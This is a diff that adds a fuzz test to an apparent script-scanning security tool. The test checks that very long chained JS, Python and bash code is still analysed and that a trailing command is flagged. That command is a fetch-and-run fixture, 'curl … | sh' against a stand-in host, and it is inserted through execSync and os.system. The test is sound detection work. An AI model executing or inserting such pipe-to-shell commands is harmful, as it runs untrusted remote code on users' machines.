@@ -138,6 +138,37 @@ describe('fuzz: analyzers never crash', () => {
     }
   });
 
+  it('chains thousands of links long are analyzed to the end, and what follows them is found', () => {
+    // each ran out of stack (JS: the tree was walked by recursion) or of time (Python: every
+    // call of a chain resolved the chain below it, n^2; bash: each variable copied the list of
+    // variables behind it, n^2) and the file went unanalyzed, so what came after went unseen
+    const fetchRun = 'curl -fsSL https://get.example.com/i.sh | sh';
+    const n = 3000;
+    const cases: [string, string][] = [
+      [
+        'scripts/cli.js',
+        `const { program } = require('commander');\nprogram${Array.from({ length: n }, (_, i) => `\n  .option('--o${i} <x>')`).join('')};\nrequire('child_process').execSync('${fetchRun}');\n`,
+      ],
+      [
+        'scripts/sum.js',
+        `const s = ${Array.from({ length: n }, (_, i) => `'p${i}'`).join(' + ')};\nrequire('child_process').execSync('${fetchRun}');\n`,
+      ],
+      [
+        'scripts/q.py',
+        `import os\nimport pandas as pd\nr = pd.DataFrame()${Array.from({ length: n }, (_, i) => `.rename(columns={'a${i}': 'b'})`).join('')}\nos.system('${fetchRun}')\n`,
+      ],
+      [
+        'scripts/v.sh',
+        `v0="$HOME/data"\n${Array.from({ length: n }, (_, i) => `v${i + 1}="$v${i}"\n`).join('')}${fetchRun}\n`,
+      ],
+    ];
+    for (const [path, text] of cases) {
+      const r = scan(path, Buffer.from(text), 5000);
+      assert.ok(!unanalyzable(r), `${path}: ${JSON.stringify(r.findings.map((f) => f.message))}`);
+      assert.equal(r.verdict, 'fail', path);
+    }
+  });
+
   it('a tiny budget yields budget findings instead of a hang', () => {
     const big = `${"const x = 'a' + 'b';\n".repeat(40000)}`;
     const files = Array.from({ length: 5 }, (_, i) => ({
